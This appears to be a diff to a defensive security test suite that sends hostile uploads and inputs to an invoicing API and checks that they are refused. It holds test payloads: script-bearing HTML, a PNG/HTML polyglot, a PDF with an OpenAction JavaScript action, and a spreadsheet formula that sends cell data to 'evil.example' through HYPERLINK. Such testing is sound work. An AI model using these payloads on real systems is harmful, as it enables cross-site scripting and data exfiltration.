@@ -14,10 +14,15 @@ const UPLOAD = {
 const PNG = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';
 const PAGE = '<!doctype html><script>alert(document.domain)</script>';
 
-function upload(run, name, type, parts) {
-  const body = new FormData();
-  body.append('file', new File(parts, name, { type }));
-  return run.send('POST', '/api/v1/documents', { token: run.ben.token, body });
+/** Uploads a harmless file, which the service must accept, and then the hostile one. */
+async function upload(run, name, type, harmless, hostile) {
+  const form = (parts) => {
+    const body = new FormData();
+    body.append('file', new File(parts, name, { type }));
+    return { token: run.ben.token, body };
+  };
+  await run.prepare('POST', '/api/v1/documents', form(harmless));
+  await run.send('POST', '/api/v1/documents', form(hostile));
 }
 
 /** Returns a PDF of one empty page with further entries in its catalog. */
@@ -40,7 +45,7 @@ export const CARDS = [
     text: 'Polyglot file: a valid PNG is followed by HTML with a script. A browser that guesses the type would run the script.',
     async play(run) {
       const picture = Uint8Array.from(atob(PNG), (char) => char.charCodeAt(0));
-      await upload(run, 'picture.png', 'image/png', [picture, PAGE]);
+      await upload(run, 'picture.png', 'image/png', [picture], [picture, PAGE]);
     },
   },
   {
@@ -50,7 +55,7 @@ export const CARDS = [
     text: 'Stored XSS: the file is named and declared as plain text, but contains HTML with a script.',
     threat: 'API8:2023 · CWE-79 · CWE-434',
     async play(run) {
-      await upload(run, 'note.txt', 'text/plain', [PAGE]);
+      await upload(run, 'note.txt', 'text/plain', ['A plain note.\n'], [PAGE]);
     },
   },
   {
@@ -62,7 +67,7 @@ export const CARDS = [
     code: 'src/security/files/uploads/pdf/mod.rs',
     test: 'attacks::files::uploads::pdf::active::active_content_is_refused_with_its_reason_plain_and_compressed',
     async play(run) {
-      await upload(run, 'invoice.pdf', 'application/pdf', [pdf('/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>')]);
+      await upload(run, 'invoice.pdf', 'application/pdf', [pdf('')], [pdf('/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>')]);
     },
   },
   {
@@ -76,11 +81,11 @@ export const CARDS = [
     expect: { status: 200 },
     async play(run) {
       const name = '=HYPERLINK("https://evil.example/?"&A1,"Click")', token = run.ben.token;
-      const customer = await run.send('POST', '/api/v1/customers', { token, body: { name, default_currency: 'EUR' } });
-      await run.send('POST', '/api/v1/invoices', { token, body: draft(customer.body.id) });
-      const { body } = await run.send('GET', '/api/v1/invoices/export', { token });
+      const customer = await run.prepare('POST', '/api/v1/customers', { token, body: { name, default_currency: 'EUR' } });
+      await run.prepare('POST', '/api/v1/invoices', { token, body: draft(customer.body.id) });
+      const { body } = await run.prepare('GET', '/api/v1/invoices/export', { token });
       const cell = `"'${name.replaceAll('"', '""')}"`;
-      return body.includes(cell) ? { held: true, text: `The export contains a text: ${cell}` } : { held: false, text: 'The export contains a formula' };
+      return body.includes(cell) ? { held: true, text: `The export contains a text: ${cell}` } : { held: false, text: `The export does not contain the text ${cell}` };
     },
   },
 ];
